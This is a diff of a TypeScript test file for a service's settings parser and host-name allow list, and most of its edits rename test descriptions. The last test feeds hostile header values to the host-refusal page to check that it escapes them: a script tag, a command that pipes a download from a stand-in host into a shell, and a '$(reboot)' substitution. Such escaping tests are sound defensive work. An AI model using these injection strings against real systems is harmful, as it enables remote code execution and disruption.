@@ -5,7 +5,7 @@ import { refusedHostPage } from './http/bare-page.ts'
 import { readSettings } from './settings.ts'
 
 describe('settings', () => {
-  it('nothing set gives loopback, the usual home and a closed interface', () => {
+  it('the defaults are loopback, the default home and a closed HTTP API', () => {
     const read = readSettings({})
     expect(read).toMatchObject({
       ok: true,
@@ -21,11 +21,11 @@ describe('settings', () => {
     })
   })
 
-  it('an unset and an empty variable are the same', () => {
+  it('an empty variable counts as unset', () => {
     expect(readSettings({ HERMES_HOME: ' ', STEWARD_PORT: '', STEWARD_TOKEN: '' })).toEqual(readSettings({}))
   })
 
-  it('homes are separated by colons and ~ is the user’s folder', () => {
+  it('homes are separated by colons and ~ expands to the user’s folder', () => {
     const read = readSettings({ STEWARD_HOMES: '~/a: /b :', HERMES_HOME: '~' })
     expect(read).toMatchObject({
       ok: true,
@@ -80,7 +80,7 @@ describe('settings', () => {
   })
 })
 
-it('a webhook is an address and, if wanted, a secret; what is wrong with it is said without quoting it', () => {
+it('a webhook has a URL and an optional secret, and errors never quote either', () => {
   expect(readSettings({})).toMatchObject({ ok: true, value: { webhook: null } })
   expect(readSettings({ STEWARD_WEBHOOK_URL: 'http://127.0.0.1:9/in' })).toMatchObject({
     ok: true,
@@ -94,7 +94,7 @@ it('a webhook is an address and, if wanted, a secret; what is wrong with it is s
   expect(wrong.ok ? '' : wrong.fault).not.toContain('very-secret-key')
 })
 
-it('an address others can reach is fine with a password', () => {
+it('a reachable address is allowed with a password', () => {
   expect(readSettings({ STEWARD_HOST: '0.0.0.0', STEWARD_PASSWORD: 'a long one' })).toMatchObject({
     ok: true,
     value: { host: '0.0.0.0' },
@@ -150,7 +150,7 @@ describe('host names', () => {
     expect(isAllowedHost(host, ['nas.lan'])).toBe(false)
   })
 
-  it('the refusal shows the setting to copy and never the header as markup', () => {
+  it('the refusal shows the setting to copy and escapes the header', () => {
     expect(refusedHostPage('nas.lan:9191', [])).toContain('STEWARD_ALLOWED_HOSTS=nas.lan npm start')
     expect(refusedHostPage('NAS.lan', ['a.lan', 'b.lan'])).toContain('=a.lan,b.lan,nas.lan npm start')
     for (const odd of ['<script>alert(1)</script>', 'x; curl evil.example | sh', '$(reboot)', 'a b', null]) {
